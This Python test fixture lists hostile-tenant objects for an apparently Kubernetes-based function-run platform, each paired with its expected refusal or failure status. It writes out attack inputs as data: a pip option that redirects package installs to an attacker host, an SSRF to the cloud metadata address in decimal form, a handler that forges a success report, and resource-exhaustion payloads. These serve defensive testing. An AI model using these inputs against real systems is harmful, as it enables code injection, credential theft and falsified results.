"""Objects of a hostile tenant, by the names that docs/hostile-tenant.md gives them, and what becomes of each."""

from dataclasses import dataclass
from random import Random
from typing import Any, Final

from support.kube import Object, function, run

_CODE_BYTES: Final = 128 * 1024
_BOMB: Final = "def handler(context):\n    return [0] * 900_000\n"
_FORGE: Final = """
import os, pathlib

def handler(context):
    report = '{"reason": "Succeeded", "message": "all is well", "results": {"paid": 1000000}}'
    for path in ("/dev/termination-log", os.environ.get("MLRUN_REPORT", "/dev/termination-log")):
        try:
            pathlib.Path(path).write_text(report)
        except OSError:
            pass
    os._exit(3)
"""


@dataclass(frozen=True, slots=True)
class HostileObject:
    """What a tenant applies, and how it ends: the status' phase, reason and a part of the message, or a refusal."""

    name: str
    objects: tuple[Object, ...]
    phase: str = ""
    reason: str = ""
    words: str = ""
    conditions: tuple[str, ...] = ()
    refusal: str = ""


def _of(name: str, *objects: Object, **ends: Any) -> HostileObject:
    return HostileObject(name, objects, **ends)


def _run(name: str, **spec: Any) -> Object:
    """Return a run with a function of its own."""
    made = run(name, **spec)
    made["spec"].setdefault("function", {"source": {"code": "def handler():\n    return 1\n"}, "handler": "handler"})
    del made["spec"]["functionRef"]
    return made


def _code(code: str) -> Object:
    return {"source": {"code": code}, "handler": "handler"}


def hostile_objects() -> list[HostileObject]:
    """Return the objects; each run and function is called as its object."""
    braces = 'f"' + "{a}" * (_CODE_BYTES // 3 - 1) + '"'
    many = {"spec": {"containers": [{"name": f"c{n}", "image": "x"} for n in range(3000)]}}
    noise = Random(1).randbytes(500_000).hex()
    incompressible = noise[:400_000]  # what compresses is no large annotation
    over = [{"name": "mine", "mountPath": "/etc", "emptyDir": {}}]
    invalid = {"phase": "Failed", "reason": "InvalidRun"}
    return [
        _of("costly-code", function("costly-code", code=braces), reason="Valid"),
        _of("wrong-template", _run("wrong-template", podTemplate={"spec": {"tolerations": "all"}}), **invalid,
            words="podTemplate: spec.tolerations must be a list"),
        _of("large-template", _run("large-template", podTemplate=many), **invalid, words="64 KiB"),
        _of("large-parameters", _run("large-parameters", parameters={"p": noise}), **invalid,
            words="the limit is 512 KiB"),
        _of("large-envelope", _run("large-envelope", parameters={"p": incompressible}), phase="Failed",
            reason="EnvelopeTooLarge", words="the limit is 200 KiB"),
        _of("covered-envelope", _run("covered-envelope", volumes=over), **invalid, words="/etc"),
        _of("options-to-pip", function("options-to-pip", requirements=["requests --index-url=http://evil.example.org"]),
            refusal="requirements"),
        _of("metadata-server", _run("metadata-server", inputs={"token": "http://2852039166/latest/meta-data/"},
            function=_code("def handler(token):\n    return token.get()\n")), **invalid, words="link-local"),
        _of("huge-result", _run("huge-result", function=_code(_BOMB)), phase="Succeeded", reason="Succeeded",
            conditions=("ResultTruncated",)),
        _of("forged-report", _run("forged-report", backoffLimit=0, function=_code(_FORGE)), phase="Failed",
            reason="HandlerFailed"),
    ]  # fmt: skip
